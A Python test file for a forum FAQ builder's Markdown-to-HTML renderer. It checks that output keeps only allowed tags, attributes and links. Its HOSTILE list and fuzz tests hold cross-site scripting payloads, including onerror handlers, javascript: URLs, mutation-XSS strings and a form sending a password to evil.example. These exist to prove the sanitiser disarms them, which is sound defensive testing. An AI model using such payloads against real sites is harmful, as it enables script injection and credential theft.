"""Markdown to HTML: as GitHub renders it, without scripts or other active content."""

import html
import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import html as lxml_html

from example import SHARED
from faq_builder.model import PublicText, Url
from faq_builder.render.cmark import unsafe_html
from faq_builder.render.excerpt import answer_excerpt
from faq_builder.render.markdown import MAX_DEPTH, to_html, to_plain, truncated

CASES = SHARED / "cases"
BASE = Url("https://forum.widgets.example/t/red/")
TAGS = {
    "a", "abbr", "b", "bdi", "bdo", "blockquote", "br", "cite", "code", "data", "dd", "del", "details", "dfn", "div",
    "dl", "dt", "em", "h3", "h4", "h5", "h6", "hr", "i", "ins", "kbd", "li", "mark", "ol", "p", "pre", "q", "rp", "rt",
    "ruby", "s", "samp", "small", "span", "strong", "sub", "summary", "sup", "table", "tbody", "td", "tfoot", "th",
    "thead", "time", "tr", "u", "ul", "var", "wbr",
}  # fmt: skip
ATTRIBUTES = {
    "aria-label", "class", "colspan", "datetime", "dir", "href", "id", "open", "rel", "reversed", "rowspan", "start",
    "tabindex", "title",
}  # fmt: skip


def render(text: str, base: Url | None = BASE) -> str:
    return to_html(PublicText(text), prefix="m1-", base=base).value


def check_harmless(text: str) -> None:
    """Assert that the HTML of a text has only allowed tags, attributes and URLs."""
    out = render(text)
    root = lxml_html.fromstring(f"<div>{out}</div>")
    for element in root.iterdescendants():
        assert element.tag in TAGS, element.tag
        for name, value in element.attrib.items():
            assert name in ATTRIBUTES, name
            if name == "href":
                assert re.match(r"(https?://|mailto:|#m1-)", value), value
            if name == "id":
                assert value.startswith("m1-")
    assert not re.search(r"<a [^>]*>(?:(?!</a>).)*<a ", out, re.DOTALL), "a link within a link"
    ids = root.xpath(".//@id")
    assert len(ids) == len(set(ids))


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("~~gone~~", "<p><del>gone</del></p>"),
        ("https://a.example", '<p><a href="https://a.example" rel="nofollow ugc noopener">https://a.example</a></p>'),
        ("- [x] a\n- [ ] b", "<ul>\n<li>☑ a</li>\n<li>☐ b</li>\n</ul>"),
        ("# A\n\n### B\n\n## C", "<h3>A</h3>\n<h4>B</h4>\n<h4>C</h4>"),
        ("###### only", "<h3>only</h3>"),
        ("[up](../x)", '<p><a href="https://forum.widgets.example/t/x" rel="nofollow ugc noopener">up</a></p>'),
        ("[x](javascript:alert(1))", "<p>x</p>"),
        ("<a href='//[a'>x</a>", "<p>x</p>"),
        ("[mail](mailto:help@widgets.example)", None),
        (
            "![a *b*](https://i.example/x.png)",
            '<p><a class="faq-image" href="https://i.example/x.png" rel="nofollow ugc noopener">image: a b</a></p>',
        ),
        (
            "[![pic](https://i.example/x.png)](https://l.example/)",
            '<p><a href="https://l.example/" rel="nofollow ugc noopener">[image: pic]</a></p>',
        ),
        ("![d](data:image/png;base64,AA)", "<p>[image: d]</p>"),
        ("<section id=a>x</section>", '<div id="m1-a">x</div>'),
        ("<b onclick=x>y</b>", "<p><b>y</b></p>"),
        ("|a|\n|-:|\n|1|", None),
        ("a\x00b \ud800", "<p>a�b ?</p>"),
    ],
)
def test_markdown_becomes(text: str, expected: str | None) -> None:
    if expected is not None:
        assert render(text) == expected
    check_harmless(text)


LITERAL = [  # text, and what it is as HTML
    ("Use vector<int> v. Then compile again", "<p>Use vector&lt;int&gt; v. Then compile again</p>"),
    ("<path>\nThen *run* it", "<p>&lt;path&gt;\nThen <em>run</em> it</p>"),
    ("<path>\n\n- a", "<p>&lt;path&gt;</p>\n<ul>\n<li>a</li>\n</ul>"),
    ("- <path>\n  *b*\n- c", "<ul>\n<li>&lt;path&gt;\n<em>b</em></li>\n<li>c</li>\n</ul>"),
    ("> <path>\n> *b*", "<blockquote>\n<p>&lt;path&gt;\n<em>b</em></p>\n</blockquote>"),
    ("1. <path>\n2. b", "<ol>\n<li>&lt;path&gt;</li>\n<li>b</li>\n</ol>"),
    ("</int>\n*b*", "<p>&lt;/int&gt;\n<em>b</em></p>"),
    ("a </int> b", "<p>a &lt;/int&gt; b</p>"),
    ("<my-thing a=b> c", "<p>&lt;my-thing a=b&gt; c</p>"),
    ("<MyThing a='<b>'/> c", "<p>&lt;MyThing a='&lt;b&gt;'/&gt; c</p>"),
    ("Box<T> and <K>", "<p>Box&lt;T&gt; and &lt;K&gt;</p>"),
    ("Map<String, List<A>> m", "<p>Map&lt;String, List&lt;A&gt;&gt; m</p>"),
    ("List<S> is no strike", "<p>List&lt;S&gt; is no strike</p>"),
    ("vector<int", "<p>vector&lt;int</p>"),
    ("<int\nb", "<p>&lt;int\nb</p>"),
    ("<div is open\n*b*", "<p>&lt;div is open\n<em>b</em></p>"),
    ("<path\nb> c", "<p>&lt;path\nb&gt; c</p>"),
    ("cp <source> <target>", "<p>cp &lt;source&gt; &lt;target&gt;</p>"),
    ("ssh <address>\n*b*", "<p>ssh &lt;address&gt;\n<em>b</em></p>"),
    ("<address>\n*b*", "<p>&lt;address&gt;\n<em>b</em></p>"),
    ("enter <code> here", "<p>enter &lt;code&gt; here</p>"),
    ("use <title> in your head", "<p>use &lt;title&gt; in your head</p>"),
    ("<title> is *in* the head", "<p>&lt;title&gt; is <em>in</em> the head</p>"),
    ("<object> b <form> c <button>d</button>", "<p>&lt;object&gt; b &lt;form&gt; c &lt;button&gt;d&lt;/button&gt;</p>"),
    ("a <template> b <noscript> c", "<p>a &lt;template&gt; b &lt;noscript&gt; c</p>"),
    ("a <script> b", "<p>a &lt;script&gt; b</p>"),
    ("<script> is\n*last*", "<p>&lt;script&gt; is\n<em>last</em></p>"),
    ("a <svg><path d='M0'></svg> b", "<p>a &lt;svg&gt;&lt;path d='M0'&gt;&lt;/svg&gt; b</p>"),
    ("the <input> and <img> tags", "<p>the &lt;input&gt; and &lt;img&gt; tags</p>"),
    ("a <td> in a <tr>", "<p>a &lt;td&gt; in a &lt;tr&gt;</p>"),
    ("<?php echo 1 ?> b", "<p>&lt;?php echo 1 ?&gt; b</p>"),
    ("<!DOCTYPE html>\n*b*", "<p>&lt;!DOCTYPE html&gt;\n<em>b</em></p>"),
    ("<![CDATA[ b ]]> c", "<p>&lt;![CDATA[ b ]]&gt; c</p>"),
    ("<!-- b\n\nc", "<p>&lt;!-- b</p>\n<p>c</p>"),
    ("# Box<T>", "<h3>Box&lt;T&gt;</h3>"),
    ("**a<int>** [b<int>](../c)", None),
    ("| a<int> |\n|---|\n| <path> |", None),
    ("`a<int>`", "<p><code>a&lt;int&gt;</code></p>"),
    ("```\n<path>\n```", '<pre tabindex="0"><code>&lt;path&gt;\n</code></pre>'),
    ("    <path>", '<pre tabindex="0"><code>&lt;path&gt;\n</code></pre>'),
    ("`a\n<path>`", "<p><code>a &lt;path&gt;</code></p>"),
    ("<div>\na <int> b<c\n</div>", "<div>\na &lt;int&gt; b&lt;c\n</div>"),
    ("<pre>\na<int>\n</pre>", '<pre tabindex="0">a&lt;int&gt;\n</pre>'),
    ("<table><tr><td>a<int></td></tr></table>", None),
    ("Press Ctrl+Alt+<Del> and *log* in", "<p>Press Ctrl+Alt+&lt;Del&gt; and <em>log</em> in</p>"),
    ("SELECT * FROM <table> WHERE x", "<p>SELECT * FROM &lt;table&gt; WHERE x</p>"),
    ("*a <em> b* and **<strong>**", "<p><em>a &lt;em&gt; b</em> and <strong>&lt;strong&gt;</strong></p>"),
    ("- <ul>\n- <code> `c`", "<ul>\n<li>&lt;ul&gt;</li>\n<li>&lt;code&gt; <code>c</code></li>\n</ul>"),
    ("> <blockquote>\n> `<pre>`", "<blockquote>\n<p>&lt;blockquote&gt;\n<code>&lt;pre&gt;</code></p>\n</blockquote>"),
    ("| <table> |\n|---|\n| <td> |", None),
    ("<div>\n*b*", "<p>&lt;div&gt;\n<em>b</em></p>"),
    ("<details><summary>a", "<p>&lt;details&gt;&lt;summary&gt;a</p>"),
    ("std::map<std::string,int> *m*", "<p>std::map&lt;std::string,int&gt; <em>m</em></p>"),
    ("<std::string>\n`vector<std::string>`", "<p>&lt;std::string&gt;\n<code>vector&lt;std::string&gt;</code></p>"),
    ("<tel:123> <ftp://a.example/b>", "<p>&lt;tel:123&gt; &lt;ftp://a.example/b&gt;</p>"),
    ("\\<int> and &lt;int&gt;", "<p>&lt;int&gt; and &lt;int&gt;</p>"),
]
MARKUP = [  # as ever
    ("<b>a</b> <kbd>b</kbd> <sub>c</sub>", "<p><b>a</b> <kbd>b</kbd> <sub>c</sub></p>"),
    ("<center>a</center> <font color=red>b</font>", "a b"),
    ("<details>\n<summary>a</summary>\n\n*b*\n", "<details>\n<summary>a</summary>\n<p><em>b</em></p>\n</details>"),
    ("[a](https://a.example/<p>/c) [d](<e>)", None),
    ("<picture><source srcset=x><img src=https://a.example/y></picture>", None),
    ("<!-- a <int> -->\n\nb", "<p>b</p>"),
    ("<!-- a\n<int>\n-->\n\nb", "<p>b</p>"),
    ("a<br>b<hr>", None),
    ("<pre>\na\n\n*b*</pre>\n*c*", '<pre tabindex="0">a\n\n*b*</pre>\n<p><em>c</em></p>'),
    ("[a](<b>c</b>)", "<p>[a](<b>c</b>)</p>"),
    ("[1]: <em>a</em> b", "<p>[1]: <em>a</em> b</p>"),
    ("<ul><li>a<li>b</ul>", "<ul><li>a</li><li>b</li></ul>"),
    ("<html><head></head><body>\n\n*b*\n\n</body></html>", "<p><em>b</em></p>"),
    ("<a@b.example>", '<p><a href="mailto:a@b.example" rel="nofollow ugc noopener">a@b.example</a></p>'),
    ("<https://a.example>", '<p><a href="https://a.example" rel="nofollow ugc noopener">https://a.example</a></p>'),
]
# names that some browser knows, in HTML, SVG or MathML, besides those that mark up a text without an end tag
ELEMENTS = """
    a abbr address annotation-xml applet area article aside audio b base big body button canvas center circle cite code
    data defs desc embed fieldset figure filter font foreignObject form frameset g head html i iframe image input int
    isindex kbd label line link main map marker marquee math max menu meta min mi mtext nav noframes noscript object
    option or output path pattern picture plaintext q s samp script section select set slot small source span style svg
    switch symbol td template text textarea time title track u use var vector video view xmp
"""
WORD = st.from_regex(r"q[a-z]{3,6}", fullmatch=True)
NAME = st.one_of(st.sampled_from(ELEMENTS.split()), st.from_regex(r"[A-Za-z][a-z]{0,5}(-[a-z]{1,3})?x", fullmatch=True))
TAGGED = st.one_of(
    st.builds("<{}>".format, NAME),
    st.builds("<{}".format, NAME),
    st.builds("{}<{}>".format, WORD, NAME),
    st.builds("<{} {}>".format, NAME, WORD),
    st.builds("{}<{}, {}>".format, WORD, NAME, NAME),
)
BETWEEN = st.sampled_from([" ", " ", "\n", "\n\n", "\n- ", "\n\n> ", "\n\n1. ", "\n\n# "])


def visible(text: str) -> str:
    """Return the text that readers see on the page."""
    return str(lxml_html.fromstring(f"<div>{render(text)}</div>").text_content())


@pytest.mark.parametrize(("text", "expected"), LITERAL)
def test_what_is_only_written_like_a_tag_is_shown(text: str, expected: str | None) -> None:
    if expected is not None:
        assert render(text) == expected
    words = re.findall(r"\w+", visible(text))
    assert re.findall(r"\w+", to_plain(PublicText(text)).value) == words
    assert {"int", "path"} & set(re.findall(r"\w+", text)) <= set(words)
    check_harmless(text)


@pytest.mark.parametrize(("text", "expected"), MARKUP)
def test_what_is_a_tag_works_as_ever(text: str, expected: str | None) -> None:
    if expected is not None:
        assert render(text) == expected
    assert "&lt;" not in render(text)
    check_harmless(text)


@pytest.mark.parametrize("name", ELEMENTS.split())
def test_no_element_that_is_used_takes_words_away(name: str) -> None:
    text = f"before <{name} title=x>within</{name}> behind"
    assert [word for word in ("before", "within", "behind") if word not in to_plain(PublicText(text)).value] == []
    assert [word for word in ("before", "within", "behind") if word not in visible(text)] == []
    check_harmless(text)


@given(st.lists(st.tuples(st.one_of(WORD, TAGGED), BETWEEN), min_size=1, max_size=12))
@settings(max_examples=300, deadline=None)
def test_every_word_beside_and_within_angle_brackets_is_shown(parts: list[tuple[str, str]]) -> None:
    text = "".join(part + between for part, between in parts)
    words = re.findall(r"[A-Za-z-]*[A-Za-z]", text)
    for shown in (visible(text), to_plain(PublicText(text)).value, answer_excerpt(PublicText(text), 10_000).value):
        assert re.findall(r"[A-Za-z-]*[A-Za-z]", shown) == words
    check_harmless(text)


@pytest.mark.skipif(not CASES.is_dir(), reason="the small inputs of ../shared/cases are not here")
def test_the_case_of_text_behind_angle_brackets() -> None:
    text = (CASES / "text-after-angle-brackets/inline.md").read_text(encoding="utf-8").partition("## Answer")[2].strip()
    assert visible(text) == text


def test_relative_links_lose_their_target_without_the_address_of_the_original() -> None:
    assert render("[up](../x) ![p](y.png)", base=None) == "<p>up [image: p]</p>"


def test_code_is_coloured_where_the_language_is_known() -> None:
    coloured = render('```python\nx = "<b>"\n```')
    assert '<div class="highlight"><pre tabindex="0"><code>' in coloured
    assert "&lt;b&gt;" in coloured
    assert "<b>" not in coloured
    assert render("```nolang\n<x>\n```") == '<pre tabindex="0"><code>&lt;x&gt;\n</code></pre>'
    assert "highlight" not in render("```python\n" + "x = 1\n" * 4000 + "```")


def test_footnotes_of_two_messages_do_not_meet() -> None:
    text = PublicText("a[^1] and b[^1]\n\n[^1]: note")
    ids = re.findall(r'(?:id|href)="#?([^"]*)"', to_html(text, prefix="m1-").value)
    assert ids
    assert all(name.startswith("m1-") for name in ids)


def test_follow_can_be_asked_for() -> None:
    assert 'rel="noopener"' in to_html(PublicText("<https://a.example>"), prefix="x-", rel="noopener").value


HOSTILE = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "[x](&#106;avascript:alert(1))",
    "[x](<data:text/html,<script>alert(1)</script>>)",
    "[a]: vbscript:x\n\n[a]",
    "<form action=https://evil.example><input name=password><button>ok</button></form>",
    "<iframe src=https://evil.example></iframe><object data=x></object><embed src=x>",
    "<style>body{display:none}</style><link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example><meta http-equiv=refresh content=0>",
    "<p id=page class=faq-header style='position:fixed'>x</p>",
    "<td align='x onmouseover=alert(1)'>",
    "<abbr title='\"><script>alert(1)</script>'>x</abbr>",
    '<a href="https://a.example/" title=\'x" onfocus=alert(1) autofocus\'>x</a>',
    '```"><script>alert(1)</script>\ncode\n```',
    "<pre><code class='language-x\"><script>'>a</code></pre>",
    "</div></section></article></main><h1>mine</h1>",
    "<a href=https://a.example><table><td><a href=https://b.example>x</a></table></a>",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<img alt='<b onclick=x>' src='https://a.example/?\"onload=x'>",
    "<h1><div><h2>x</h1></h2>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_does_nothing(text: str) -> None:
    check_harmless(text)
    check_harmless(f"> - {text}\n\n| a |\n|---|\n| {text} |")


@given(st.lists(st.sampled_from([*HOSTILE, "<", ">", '"', "'", "`", "\n", "[", "](", ")", "<a ", "=", "&lt;", "x"])))
@settings(max_examples=150, deadline=None)
def test_no_mixture_of_hostile_texts_does_anything(parts: list[str]) -> None:
    check_harmless("".join(parts))


@given(st.text())
@settings(max_examples=100, deadline=None)
def test_any_text_can_be_shown(text: str) -> None:
    check_harmless(text)
    plain = to_plain(PublicText(text)).value
    assert plain == " ".join(plain.split())


@pytest.mark.parametrize("text", ["> " * 3000 + "x", "<div>" * 3000 + "</div>", "<div></b>" * 3000 + "</div>"])
def test_absurd_nesting_is_shown_as_its_source(text: str) -> None:
    assert MAX_DEPTH < 3000
    assert render(text) == f"<p>{html.escape(text)}</p>"


def test_plain_text_has_the_words_and_no_markup() -> None:
    markup = "# Title\n\nA *b* [c](https://d.example) ![e](f.png)\n\n|g|h|\n|-|-|\n|i|j|\n\n"
    text = markup + "```py\nk < 1\n```\n<script>no</script>l"
    assert to_plain(PublicText(text)).value == "Title A b c e g h i j k < 1 <script>no</script>l"


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("Take\n\n- the red one\n- the blue one\n", "Take; the red one; the blue one"),
        ("Take these:\n\n1. Red.\n2. Blue!\n\nDone", "Take these: Red. Blue! Done"),
        ("- a\n  - b\n\n    c\n- d", "a; b c; d"),
        ("- only", "only"),
    ],
)
def test_items_of_a_list_are_told_apart(text: str, words: str) -> None:
    assert to_plain(PublicText(text)).value == words


def test_cut_ends_at_a_word() -> None:
    assert truncated(PublicText("one two three"), 13).value == "one two three"
    assert truncated(PublicText("one two, three"), 11).value == "one two…"
    assert truncated(PublicText("x" * 20), 10).value == "x" * 9 + "…"


@pytest.mark.skipif(not Path("/proc/self/statm").exists(), reason="needs /proc to see the memory of a process")
def test_memory_is_given_back() -> None:
    """cmarkgfm itself loses some 27 kB for each of these texts."""

    def resident() -> int:
        return int(Path("/proc/self/statm").read_text(encoding="ascii").split()[1]) * 4

    text = "a *b* `c` [d](https://e.example)\n\n" * 100
    for _ in range(50):
        unsafe_html(text)
    before = resident()
    for _ in range(1000):
        unsafe_html(text)
    assert resident() - before < 8_000  # kB; the leak would be 30,000
